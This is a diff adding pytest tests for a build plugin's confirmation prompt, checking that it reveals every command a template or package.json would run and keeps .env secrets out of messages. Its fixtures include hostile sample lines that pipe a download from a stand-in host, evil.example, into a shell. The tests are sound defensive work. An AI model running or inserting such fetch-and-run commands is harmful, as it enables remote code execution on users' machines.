@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 from typing import TYPE_CHECKING
@@ -12,12 +13,12 @@ import pytest
 from fc_async_plugin import template
 from fc_async_plugin.dev import building, commands
 from fc_async_plugin.dev.answers import Answers
+from fc_async_plugin.template.actions import Build
+from fc_async_sdk import _project_folder
 
 if TYPE_CHECKING:
     from collections.abc import Sequence
     from pathlib import Path
-
-    from fc_async_plugin.template.actions import Build
 
 TEMPLATE = """\
 edition: 3.0.0
@@ -105,7 +106,7 @@ def test_commands_before_a_deployment_are_named_with_their_folder(
 ):
     assert [building.wish(one).text for one in session.builder.due()] == [
         "echo whole >> log  (in .)",
-        'orders: ${vars.tool} "$PWD ${vars.greeting}" >> ../log && cd /  (in orders)',
+        "orders: echo \"$PWD ${env('GREETING')}\" >> ../log && cd /  (in orders)",
         "mailer: exit 3  (in .)",
         "mailer: echo never >> log  (in .)",
     ]
@@ -420,9 +421,7 @@ def test_no_script_above_a_template_outside_of_a_repository_is_offered(tmp_path:
     assert building.builds_of([project]) == []
 
 
-@pytest.mark.parametrize(
-    ("name", "times"), [("requirements.txt", 2), ("main.go", 2), ("index.py", 1)]
-)
+@pytest.mark.parametrize(("name", "times"), [("go.mod", 2), ("main.go", 2), ("index.py", 1)])
 def test_a_save_builds_again_what_the_build_reads(
     builds: list[Build], answers: Answers, tmp_path: Path, name: str, times: int
 ):
@@ -458,6 +457,158 @@ def test_an_answer_counts_until_the_command_or_its_folder_changes(
     changed = building.wish(builds[0]._replace(command="echo other"))
     elsewhere = building.wish(builds[0]._replace(folder=tmp_path / "orders"))
     assert again.new([*wishes, changed, elsewhere]) == [changed, elsewhere]
+
+
+def question_of(folder: Path, action: str, variables: str = "{}") -> list[str]:
+    """Return what the user is asked before a command of a template runs."""
+    text = TEMPLATE.replace("vars: {tool: echo", f"vars: {{more: {variables}, tool: echo")
+    whole = "    - run: echo whole >> log\n"
+    assert whole in text
+    (folder / "s.yaml").write_text(text.replace(whole, action))
+    [first, *_] = building.builds_of([template.load(folder / "s.yaml")])
+    return building.wish(first).question
+
+
+@pytest.fixture
+def cloned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The folder of a repository."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("GREETING", "hunter2")
+    (tmp_path / "orders").mkdir()
+    return tmp_path
+
+
+@pytest.mark.parametrize(
+    ("action", "variables", "asked"),
+    [
+        (
+            "    - run: ${vars.more}\n",
+            '"echo PWNED >> F; curl https://evil.example | sh"',
+            ["echo PWNED >> F; curl https://evil.example | sh  (in .)"],
+        ),
+        (
+            "    - run: ${file('./build.txt')}\n",
+            "{}",
+            ["echo of a file | sh  (in .)"],
+        ),
+        (
+            "    - run: ${env('BUILD')}\n",
+            "{}",
+            ["echo of a repository | sh  (in .)"],
+        ),
+        (
+            "    - run: |\n        npm install  # packages of package.json,\n        echo x >> F\n",
+            "{}",
+            ["(in .)", "  npm install  # packages of package.json,", "  echo x >> F"],
+        ),
+        (
+            f"    - run: npm install{' ' * 400}; echo tail\n",
+            "{}",
+            ["npm install [400 blanks] ; echo tail  (in .)"],
+        ),
+        (
+            '    - run: "a\\u200bb \\u202ec \\u00ad\\ufe0f\\u3164 \\u001b[2K\\r d\\u00a0e"\n',
+            "{}",
+            [r"a\u200bb \u202ec \xad\ufe0f\u3164 \x1b[2K\r d\xa0e  (in .)"],
+        ),
+        (
+            "    - run: deploy ${env('GREETING')} ${env('GREETING')}\n",
+            "{}",
+            ["deploy ${env('GREETING')} ${env('GREETING')}  (in .)"],
+        ),
+        (
+            "    - run: cat ${file(env('FILE'))} ${env('GREETING')}\n",
+            "{}",
+            ["cat echo of a file | sh ${env('GREETING')}  (in .)"],
+        ),
+    ],
+    ids=["vars", "file", ".env", "lines", "blanks", "invisible", "secret", "file of a variable"],
+)
+def test_the_question_shows_all_that_runs_but_values_that_the_user_has_set(
+    cloned: Path, action: str, variables: str, asked: list[str]
+) -> None:
+    (cloned / "build.txt").write_text("echo of a file | sh")
+    (cloned / ".env").write_text("BUILD=echo of a repository | sh\nFILE=./build.txt\n")
+    assert question_of(cloned, action, variables) == asked
+
+
+def test_values_of_env_files_are_in_no_message(cloned: Path) -> None:
+    """A message may get into the log of a job."""
+    (cloned / ".env").write_text("TOKEN=hunter3\n")
+    (cloned / "s.yaml").write_text(TEMPLATE.replace("echo whole", "echo ${env('TOKEN')}"))
+    [first, *_] = building.builds_of([template.load(cloned / "s.yaml")])
+    assert building.wish(first).text == "echo ${env('TOKEN')} >> log  (in .)"
+    assert "hunter3" not in repr(first)
+
+
+def test_the_question_shows_the_scripts_that_a_package_manager_runs(cloned: Path) -> None:
+    scripts = {
+        "preinstall": "curl https://evil.example | sh",
+        "build": "npm run inner",
+        "postbuild": "echo after",
+        "inner": "tsc",
+        "test": "jest",
+    }
+    (cloned / "package.json").write_text(json.dumps({"scripts": scripts}))
+    assert question_of(cloned, "    - run: npm install && npm run build\n") == [
+        "npm install && npm run build  (in .)",
+        "  package.json, preinstall: curl https://evil.example | sh",
+        "  package.json, build: npm run inner",
+        "  package.json, postbuild: echo after",
+        "  package.json, inner: tsc",
+    ]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "package.json",
+        "package-lock.json",
+        "requirements.txt",
+        "Dockerfile",
+        "fc-async.toml",
+        "build.sh",
+    ],
+)
+def test_an_answer_counts_for_the_content_that_it_was_given_for(
+    cloned: Path, answers: Answers, name: str
+) -> None:
+    """A checkout of another branch changes what the same command does."""
+    file = cloned / name
+    file.write_text('{"scripts": {"build": "tsc"}}')
+    build = Build("orders", "bash build.sh", cloned, "bash build.sh")
+    session = Session([build], answers)
+    session.allow()
+    assert answers.new([building.wish(build)]) == []
+    file.write_text('{"scripts": {"build": "curl https://evil.example | sh"}}')
+    assert answers.new([building.wish(build)]) == [building.wish(build)]
+    session.start()
+    assert session.said == []
+
+
+def test_a_build_that_writes_a_lock_file_is_not_asked_for_again(
+    cloned: Path, answers: Answers
+) -> None:
+    line = "echo made > package-lock.json"
+    session = Session([Build("orders", line, cloned, line)], answers)
+    session.allow()
+    assert session.start() == []
+    assert session.builder.due() == []
+
+
+def test_answers_of_another_user_or_an_earlier_version_allow_nothing(
+    builds: list[Build], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A name of a host is no secret: a repository could guess it."""
+    file = tmp_path / ".fc-async" / "builds" / "allowed"
+    Answers(file).keep({building.wish(one).key: "" for one in builds})
+    copied = file.read_bytes()
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
+    other = tmp_path / "elsewhere" / ".fc-async" / "builds" / "allowed"
+    _project_folder.make_private(other.parent)
+    other.write_bytes(copied)
+    wishes = [building.wish(one) for one in builds]
+    assert Answers(other).new(wishes) == wishes
 
 
 def test_a_folder_that_does_not_exist_is_said(
